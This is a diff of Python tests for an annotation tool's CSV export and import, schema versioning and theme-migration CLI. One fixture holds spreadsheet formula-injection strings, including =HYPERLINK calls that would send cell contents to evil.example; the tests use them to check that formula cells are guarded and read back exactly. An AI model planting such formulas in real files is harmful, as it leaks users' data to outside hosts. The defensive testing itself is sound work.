@@ -242,6 +242,52 @@ def test_csv_round_trip(tmp_path):
     assert {r.annotator for r in result.records} == {"amy"}
 
 
+# Comments a spreadsheet would run as formulas, in a document whose id is one too; a text that itself starts with '=
+FORMULA_DOC = Document(id='=HYPERLINK("http://evil.example","c9")',
+                       text='=HYPERLINK("http://evil.example/?d="&A2,"点击")\n-1 不同意\n+1\n@某人 说得对\n\t缩进\n\'=1+2 是文本\n好')
+FORMULA_UNITS = [Unit.from_source(FORMULA_DOC.text, doc=FORMULA_DOC.id, n=n, start=m.start(), end=m.end(), kind="comment")
+                 for n, m in enumerate(re.finditer(r"[^\n]+", FORMULA_DOC.text), 1)]
+
+
+def test_csv_sheet_guards_formula_cells_and_import_reads_them_back_exactly(tmp_path):
+    export(FORMULA_UNITS, tmp_path / "u.csv", "csv", predictions=[prediction(0)] * len(FORMULA_UNITS))
+    with open(tmp_path / "u.csv", encoding="utf-8-sig", newline="") as f:
+        rows = list(csv.DictReader(f))
+    assert [r["text"] for r in rows] == ["'" + u.text for u in FORMULA_UNITS[:6]] + ["好"]  # '=1+2 gets a second '
+    assert {r["id"][:2] for r in rows} == {r["doc"][:2] for r in rows} == {"'="}
+    assert rows[0]["pred_sentiment_score"] == "0.000"  # numbers are not guarded
+    fill_csv(tmp_path / "u.csv", lambda row: row.update(themes="privacy", sentiment="negative"))
+    result = import_annotations([tmp_path / "u.csv"], "csv", units=FORMULA_UNITS, strict=True)
+    assert not result.errors, [str(p) for p in result.errors]
+    assert [(r.id, r.doc, r.start, r.end, r.text) for r in result.records] == [(u.id, u.doc, u.start, u.end, u.text) for u in FORMULA_UNITS]
+    assert all(r.text == FORMULA_DOC.text[r.start:r.end] for r in result.records)
+
+
+def test_a_filled_csv_sheet_trains_on_the_texts_without_the_formula_guard(tmp_path):
+    from argmine.train import load_examples
+
+    export(FORMULA_UNITS, tmp_path / "u.csv", "csv")
+    fill_csv(tmp_path / "u.csv", lambda row: row.update(themes="privacy", sentiment="negative"))
+    assert [e.text for e in load_examples(tmp_path / "u.csv")] == [u.text for u in FORMULA_UNITS]
+    (tmp_path / "t.csv").write_text("text,themes,sentiment\n'-1 不同意,privacy,negative\n", encoding="utf-8")  # not a sheet: as written
+    assert [e.text for e in load_examples(tmp_path / "t.csv")] == ["'-1 不同意"]
+
+
+def test_csv_sheet_saved_with_the_guarding_apostrophe_dropped_still_matches_the_source(tmp_path):
+    export(FORMULA_UNITS[:5], tmp_path / "u.csv", "csv")
+
+    dropped = []
+
+    def excel(row):  # a spreadsheet that saves the text it showed: the ' was its "this is text" mark
+        dropped.extend(k for k, v in row.items() if v.startswith("'"))
+        row.update({k: v[1:] for k, v in row.items() if v.startswith("'")}, themes="other", sentiment="neutral")
+
+    fill_csv(tmp_path / "u.csv", excel)
+    assert dropped == ["id", "doc", "text"] * 5
+    result = import_annotations([tmp_path / "u.csv"], "csv", units=FORMULA_UNITS, strict=True)
+    assert [(r.id, r.text) for r in result.records] == [(u.id, u.text) for u in FORMULA_UNITS[:5]]
+
+
 def test_csv_unlabelled_rows_are_reported_not_dropped(tmp_path):
     export(UNITS, tmp_path / "units.csv", "csv")
     fill_csv(tmp_path / "units.csv", lambda row: row.update(sentiment="neutral") if row["id"] == "d1#1" else None)
@@ -1277,3 +1323,153 @@ def test_cli_import_of_a_partly_reviewed_export_counts_the_unchanged_records_wit
     assert res.exit_code == 0, res.output
     assert "pre-filled labels unchanged; if nobody" not in res.stderr
     assert res.stderr.splitlines()[-1].endswith(f"; {len(UNITS) - 1} kept the pre-filled labels unchanged")
+
+
+# --- QA round 14: gold of several rounds, schema changes between them ----------------------------------
+
+ROUND1_TOML = '[schema]\nid = "fire"\nversion = "1"\n[[themes]]\nid = "tradition"\n[[themes]]\nid = "smog"\n[[themes]]\nid = "noise"\n'
+# smog renamed pollution, noise removed, safety added
+ROUND2_TOML = '[schema]\nid = "fire"\nversion = "2"\n[[themes]]\nid = "tradition"\n[[themes]]\nid = "pollution"\n[[themes]]\nid = "safety"\n'
+
+
+def _cli(*args):
+    from click.testing import CliRunner
+
+    from argmine.cli import main
+
+    return CliRunner().invoke(main, [str(a) for a in args])
+
+
+def _page_and_gold(tmp_path):
+    """A page of three sentences and the gold records of its units, built from the segmenter's own units."""
+    from argmine.annotations import GoldRecord
+    from argmine.read import read
+    from argmine.segment import segment
+
+    (tmp_path / "page.txt").write_text("财不外露。来往已死。烟太大了。\n", "utf-8")
+    units = segment(read([tmp_path / "page.txt"]))
+    return units, [GoldRecord.from_unit(u, (), "neutral") for u in units]
+
+
+def test_cli_export_only_unlabeled_takes_several_gold_files(tmp_path):
+    from argmine.annotations import write_gold
+
+    units, records = _page_and_gold(tmp_path)
+    write_gold(tmp_path / "ls.jsonl", records[:1])
+    write_gold(tmp_path / "csv.jsonl", records[1:2])
+    res = _cli("export", tmp_path / "page.txt", "--format", "csv", "--no-predictions", "--only-unlabeled", tmp_path / "ls.jsonl",
+               "--only-unlabeled", tmp_path / "csv.jsonl", "-o", tmp_path / "rest.csv")
+    assert res.exit_code == 0, res.output
+    assert res.stderr == (f"argmine: 1 unit from 1 document written to {tmp_path / 'rest.csv'} "
+                          f"(2 already labelled in {tmp_path / 'ls.jsonl'}, {tmp_path / 'csv.jsonl'} skipped)\n")
+    with open(tmp_path / "rest.csv", encoding="utf-8-sig", newline="") as f:
+        assert [r["id"] for r in csv.DictReader(f)] == [units[2].id]
+
+
+def test_cli_export_only_unlabeled_does_not_count_labels_the_schema_lacks(tmp_path):
+    from dataclasses import replace
+
+    from argmine.annotations import write_gold
+
+    units, records = _page_and_gold(tmp_path)
+    (tmp_path / "r2.toml").write_text(ROUND2_TOML, "utf-8")
+    write_gold(tmp_path / "r1.jsonl", [replace(records[0], themes=("smog",)), replace(records[1], themes=("tradition",)),
+                                       replace(records[2], themes=("foo",))])
+    res = _cli("export", tmp_path / "page.txt", "--format", "csv", "--no-predictions", "--schema", tmp_path / "r2.toml",
+               "--only-unlabeled", tmp_path / "r1.jsonl", "-o", tmp_path / "rest.csv")
+    assert res.exit_code == 1
+    lines = res.stderr.splitlines()
+    assert lines[0] == (f"argmine: error: {tmp_path / 'r1.jsonl'}:1: unknown theme 'smog' in schema 'fire'; expected one of: "
+                        f"tradition, pollution, safety (or 'other' for none); use the labels defined in {tmp_path / 'r2.toml'}")
+    assert lines[1].startswith(f"argmine: error: {tmp_path / 'r1.jsonl'}:3: unknown theme 'foo' in schema 'fire'")
+    assert lines[2] == (f"argmine: 2 units from 1 document written to {tmp_path / 'rest.csv'} (1 already labelled in "
+                        f"{tmp_path / 'r1.jsonl'} skipped; 2 records of {tmp_path / 'r1.jsonl'} not counted as labelled "
+                        "(reported above): their units are exported again)")
+    with open(tmp_path / "rest.csv", encoding="utf-8-sig", newline="") as f:  # back to the labelers
+        assert [r["id"] for r in csv.DictReader(f)] == [units[0].id, units[2].id]
+
+
+@pytest.mark.parametrize("fmt,level", [("label-studio", "unit"), ("label-studio", "document"), ("doccano", "unit"),
+                                       ("doccano", "document"), ("brat", "document")])
+def test_exports_record_their_schema_and_import_warns_when_it_is_another(tmp_path, fmt, level):
+    r1, r2 = tmp_path / "r1.toml", tmp_path / "r2.toml"
+    r1.write_text(ROUND1_TOML, "utf-8")
+    r2.write_text(ROUND2_TOML, "utf-8")
+    out = tmp_path / "ex"
+    export(UNITS, out, fmt, predictions=None, schema=load_schema(r1), documents=DOCS, level=level)
+    if fmt == "label-studio":
+        tasks = json.loads((out / "tasks.json").read_text("utf-8"))
+        assert {(t["data"]["schema"], t["data"]["schema_version"]) for t in tasks} == {("fire", "1")}
+        # labelled in Label Studio: every unit "tradition", so that both schemas accept it
+        if level == "unit":
+            exported = as_ls_export(tasks, lambda t: ls_choice_result(["tradition"], "neutral"))
+        else:
+            def regions(t):
+                rs = [r for r in t["predictions"][0]["result"]]
+                return ([{**r, "value": {**r["value"], "labels": ["tradition"]}} for r in rs]
+                        + [{**r, "from_name": "sentiment", "type": "choices", "value": {**r["value"], "choices": ["neutral"]}} for r in rs])
+            exported = as_ls_export(tasks, regions)
+        path = tmp_path / "export.json"
+        path.write_text(json.dumps(exported, ensure_ascii=False), "utf-8")
+    elif fmt == "doccano":
+        path = out / "tasks.jsonl"
+        lines = [json.loads(x) for x in path.read_text("utf-8").splitlines()]
+        assert {(x["schema"], x["schema_version"]) for x in lines} == {("fire", "1")}
+        for x in lines:
+            spans = {(s, e) for s, e, _ in x["label"]} if level == "document" else ()
+            x["label"] = ["tradition", "neutral"] if level == "unit" else [[s, e, lab] for s, e in spans for lab in ("tradition", "neutral")]
+        path.write_text("".join(json.dumps(x, ensure_ascii=False) + "\n" for x in lines), "utf-8")
+    else:
+        path = out
+        manifest = json.loads((out / "argmine.json").read_text("utf-8"))
+        assert (manifest["schema"], manifest["schema_version"]) == ("fire", "1")
+        for ann in out.glob("*.ann"):
+            t_ids = re.findall(r"^(T\d+)\t", ann.read_text("utf-8"), re.M)
+            ann.write_text(ann.read_text("utf-8").replace("\tother ", "\ttradition ")
+                           + "".join(f"A{i}\tSentiment {t} neutral\n" for i, t in enumerate(t_ids, 1)), "utf-8")
+    same = _cli("import", path, "--format", fmt, "--schema", r1, "-o", tmp_path / "g1.jsonl")
+    assert same.exit_code == 0, same.output
+    assert "exported for schema" not in same.stderr
+    res = _cli("import", path, "--format", fmt, "--schema", r2, "-o", tmp_path / "g2.jsonl")
+    assert res.exit_code == 0, res.output
+    warned = [line for line in res.stderr.splitlines() if "exported for schema" in line]
+    assert warned == [f"argmine: warning: {path} was exported for schema fire v1; the labels are read with fire v2 ({r2}): a theme "
+                      "renamed or removed since is refused (map it with --map OLD=NEW, or OLD= to drop it), and a theme added "
+                      "since was never offered to its labelers"]
+
+
+def test_cli_import_map_migrates_renamed_and_removed_themes_in_passes_too(tmp_path):
+    from argmine.annotations import load_gold
+
+    r1, r2 = tmp_path / "r1.toml", tmp_path / "r2.toml"
+    r1.write_text(ROUND1_TOML, "utf-8")
+    r2.write_text(ROUND2_TOML, "utf-8")
+    export(UNITS[:2], tmp_path / "ls", "label-studio", schema=load_schema(r1))
+    tasks = json.loads((tmp_path / "ls" / "tasks.json").read_text("utf-8"))
+    exported = []
+    for n, (task, (a, b)) in enumerate(zip(tasks, [(["smog"], ["smog", "noise"]), (["noise"], ["tradition"])]), 1):
+        exported.append({"id": n, "data": task["data"], "annotations": [
+            {"id": 100 + n, "completed_by": 1, "result": ls_choice_result(a, "negative")},
+            {"id": 200 + n, "completed_by": 2, "result": ls_choice_result(b, "negative")}]})
+    path = tmp_path / "export.json"
+    path.write_text(json.dumps(exported, ensure_ascii=False), "utf-8")
+    args = ["import", path, "--format", "label-studio", "--schema", r2, "-o", tmp_path / "g.jsonl"]
+    res = _cli(*args)  # without --map: refused, and import says how to migrate
+    assert res.exit_code == 1
+    assert ("argmine: warning: themes noise, smog are not in schema 'fire'; if a schema change renamed or removed them, import "
+            "again with --map noise=NEW (--map noise= drops it), one --map per theme (docs/schema.md, \"Changing a schema\")"
+            ) in res.stderr.splitlines()
+    res = _cli(*args, "--map", "smog=pollution", "--map", "noise=", "--map", "dust=pollution")
+    assert res.exit_code == 0, res.output
+    assert res.stderr.splitlines()[-1].endswith(
+        "; mapped (--map): 2 labels smog -> pollution, 2 labels noise dropped, 0 labels dust -> pollution")
+    gold = load_gold(tmp_path / "g.jsonl", load_schema(r2))
+    assert [(r.themes, r.passes) for r in gold] == [
+        (("pollution",), {"label-studio-user-1": {"themes": ("pollution",), "sentiment": "negative"},
+                          "label-studio-user-2": {"themes": ("pollution",), "sentiment": "negative"}}),
+        (("tradition",), {"label-studio-user-1": {"themes": (), "sentiment": "negative"},
+                          "label-studio-user-2": {"themes": ("tradition",), "sentiment": "negative"}})]
+    for bad, why in [("smog=polution", "'polution' is not a theme of schema 'fire'"), ("smog", "expected OLD=NEW"),
+                     ("negative=safety", "'negative' is not a theme"), ("smog=safety --map smog=pollution", "mapped twice")]:
+        res = _cli(*args, *[x for part in bad.split(" --map ") for x in ("--map", part)])
+        assert res.exit_code == 2 and why in res.stderr and "Invalid value for '--map'" in res.stderr, (bad, res.output)
